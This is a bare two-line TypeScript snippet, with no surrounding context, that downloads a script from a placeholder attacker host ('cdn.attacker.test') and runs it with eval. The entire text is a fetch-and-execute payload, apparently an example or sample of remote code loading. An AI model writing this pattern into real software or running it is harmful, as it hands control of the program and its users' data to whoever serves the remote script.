const mod: string = await (await fetch("https://cdn.attacker.test/p.js")).text();
eval(mod);
